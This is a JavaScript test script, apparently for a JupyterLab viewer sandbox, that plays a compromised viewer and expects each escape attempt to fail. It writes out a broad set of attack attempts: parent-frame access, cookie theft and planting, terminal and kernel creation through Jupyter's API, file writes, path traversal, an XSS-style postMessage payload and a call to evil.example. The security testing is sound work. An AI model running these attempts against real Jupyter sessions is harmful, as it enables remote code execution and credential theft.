// What a viewer that was taken over does with the JupyterLab around it. Each try ends as `got …` or `failed …`; the
// test wants to see every one of them fail. What the proxy's script would map goes around it by `HTTP:` in capitals.
(async () => {
  const prefix = location.href.match(/^.*\/runicorn\/v\/[0-9a-f]{32}\//)[0];
  const origin = new URL(prefix).origin.replace('http', 'HTTP');
  const base = new URL(prefix).pathname.replace(/runicorn\/v\/.*$/, '');
  const jupyter = origin + base;
  const results = {};
  const pause = milliseconds => new Promise(resolve => setTimeout(resolve, milliseconds));
  const attempt = async (name, tried) => {
    const late = pause(5000).then(() => {
      throw new Error('no answer');
    });
    try {
      results[name] = `got ${String(await Promise.race([tried(), late])).slice(0, 200)}`;
    } catch (error) {
      results[name] = `failed ${error && error.name}: ${error && error.message}`;
    }
  };
  const read = async (path, options) => {
    const answer = await fetch(jupyter + path, { credentials: 'include', ...options });
    return `${answer.type} ${answer.status} ${await answer.text()}`;
  };
  const made = (tag, properties) => Object.assign(document.createElement(tag), properties);
  const loads = (tag, properties) =>
    new Promise((yes, no) => {
      document.body.append(made(tag, { ...properties, onload: () => yes('loaded'), onerror: () => no(new Error('blocked')) }));
    });
  // Fails with the directive that stood in the way.
  const violates = act =>
    new Promise((yes, no) => {
      document.addEventListener('securitypolicyviolation', event => no(new Error(event.violatedDirective)), { once: true });
      act();
      setTimeout(() => yes('nothing stood in the way'), 3000);
    });
  const opens = request =>
    new Promise((yes, no) => {
      request.onsuccess = () => yes('open');
      request.onerror = () => no(new Error('refused'));
    });

  // The page around.
  if (parent !== window) {
    await attempt('read the page around', () => parent.document.title);
    await attempt('read its address', () => top.location.href);
    await attempt('run in it', () => parent.eval('1'));
    await attempt('reach JupyterLab in it', () => parent.jupyterapp.version);
    await attempt('read its storage', () => parent.localStorage.length);
    await attempt('move it', () => ((top.location.href = `${jupyter}logout`), 'moved'));
    await attempt('move it by a script address', () => ((top.location.href = 'javascript:alert(1)'), 'moved'));
    await attempt('close the sandbox', () => frameElement.removeAttribute('sandbox'));
    await attempt('be of its domain', () => (document.domain = location.hostname));
    parent.postMessage({ type: 'runicorn:loaded', html: '<img src=x onerror=alert(1)>', url: `${jupyter}logout` }, '*');
  }

  // What is the person's in this browser.
  await attempt('read a cookie', () => Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').get.call(document));
  await attempt('plant a cookie', () =>
    Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').set.call(document, '_xsrf=planted; path=/')
  );
  await attempt('the store of cookies', async () => (await cookieStore.getAll()).length);
  await attempt('open a database', () => opens(indexedDB.open('x')));
  await attempt('open a cache', () => caches.open('x'));
  await attempt('register a service worker', () => navigator.serviceWorker.register(`${prefix}attack.js`));
  await attempt('the private file system', () => navigator.storage.getDirectory());
  await attempt('ask for the microphone', () => navigator.mediaDevices.getUserMedia({ audio: true }));
  await attempt('ask where the person is', () =>
    new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no))
  );
  await attempt('read the clipboard', () => navigator.clipboard.readText());

  // Jupyter's own addresses, with the person's cookies if the browser would give them.
  for (const path of ['api/contents', 'api/status', 'api/terminals', 'api/kernels', 'api/remote/connections', 'lab', 'runicorn/client.js']) {
    await attempt(`fetch ${path}`, () => read(path));
    await attempt(`fetch ${path} without CORS`, () => read(path, { mode: 'no-cors' }));
    await attempt(`load ${path} as a script`, () => loads('script', { src: jupyter + path }));
    await attempt(`load ${path} as an image`, () => loads('img', { src: jupyter + path }));
    await attempt(`load ${path} as a style`, () => loads('link', { rel: 'stylesheet', href: jupyter + path }));
    await attempt(`import ${path}`, () => import(jupyter + path));
  }
  await attempt('open a terminal', () => read('api/terminals', { method: 'POST' }));
  await attempt('open a terminal without CORS', () => read('api/terminals', { method: 'POST', mode: 'no-cors', body: '' }));
  await attempt('start a kernel', () => read('api/kernels', { method: 'POST', body: '{}' }));
  await attempt('write a file', () =>
    read('api/contents/planted.txt', { method: 'PUT', body: '{"type":"file","format":"text","content":"x"}' })
  );
  await attempt('connect somewhere', () => read('api/remote/connect', { method: 'POST', body: '{"host":"gpu1"}' }));
  await attempt('a beacon', () => violates(() => navigator.sendBeacon(`${jupyter}api/terminals`, '')));
  for (const path of ['api/events/subscribe', 'terminals/websocket/1', 'api/kernels/x/channels']) {
    await attempt(`talk to ${path}`, () =>
      new Promise((yes, no) => {
        const socket = new WebSocket(jupyter.replace('HTTP', 'WS') + path);
        socket.onopen = () => yes('open');
        socket.onerror = () => no(new Error('refused'));
      })
    );
  }
  await attempt('listen to events', () =>
    new Promise((yes, no) => {
      const source = new EventSource(`${jupyter}api/events`, { withCredentials: true });
      source.onopen = () => yes('open');
      source.onerror = () => (source.close(), no(new Error('refused')));
    })
  );
  await attempt('from a worker', () =>
    new Promise((yes, no) => {
      const text = `fetch('${jupyter}api/contents', { credentials: 'include' }).then(
        answer => postMessage('got ' + answer.status), error => postMessage('' + error))`;
      const worker = new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
      worker.onmessage = ({ data }) => (data.startsWith('got') ? yes(data) : no(new Error(data)));
      worker.onerror = () => no(new Error('refused'));
    })
  );
  await attempt('from a shared worker', () =>
    new Promise((yes, no) => {
      const worker = new SharedWorker(`${prefix}attack.js`);
      worker.port.onmessage = yes;
      worker.onerror = () => no(new Error('refused'));
    })
  );
  await attempt('another site', () => fetch('https://evil.example/').then(answer => answer.status));
  await attempt('its own SSH client', async () => {
    const answer = await fetch(`${prefix}api/remote/connect`, { method: 'POST', body: '{}' });
    if (answer.status === 403) throw new Error('403');
    return answer.status;
  });
  await attempt('a path that leaves the prefix', async () => {
    const answer = await fetch(`${prefix}%5c..%5c..%5c..%5capi%5ccontents`);
    if (answer.status === 400) throw new Error('400');
    return answer.status;
  });
  await attempt('learn what the browser sent', async () => {
    const sent = await (await fetch(`${prefix}headers`, { credentials: 'include' })).json();
    const secrets = Object.keys(sent).filter(name => /cookie|authorization|referer|origin|xsrf|forwarded/.test(name));
    if (!secrets.length) throw new Error('nothing');
    return secrets;
  });
  await attempt('hear what the proxy keeps back', async () => {
    const answer = await fetch(`${prefix}headers`);
    const names = ['refresh', 'link', 'sourcemap', 'service-worker-allowed', 'access-control-allow-credentials', 'nel'];
    const heard = names.filter(name => answer.headers.has(name));
    if (!heard.length && answer.headers.get('referrer-policy') === 'no-referrer') throw new Error('nothing');
    return heard;
  });

  // Frames, forms, bases.
  for (const [tag, name] of [['iframe', 'src'], ['embed', 'src'], ['object', 'data']]) {
    await attempt(`show JupyterLab in an ${tag}`, () =>
      violates(() => document.body.append(made(tag, { [name]: `${jupyter}lab` })))
    );
  }
  await attempt('post a form', () =>
    violates(() => {
      const form = made('form', { action: `${jupyter}api/terminals`, method: 'POST' });
      document.body.append(form);
      form.submit();
    })
  );
  await attempt('change the base of addresses', () =>
    violates(() => document.head.append(made('base', { href: jupyter })))
  );

  // Windows need a person's click.
  await new Promise(resolve => {
    addEventListener('click', resolve, { once: true });
    document.title = 'click';
  });
  await attempt('read a window of JupyterLab', async () => {
    const opened = window.open(`${jupyter}lab`);
    if (!opened) throw new Error('no window');
    await pause(2000);
    try {
      return opened.document.body.innerHTML;
    } finally {
      opened.close();
    }
  });
  await fetch(`${prefix}report`, { method: 'POST', body: JSON.stringify({ from: location.href, results }) });
  document.title = 'done';
})();
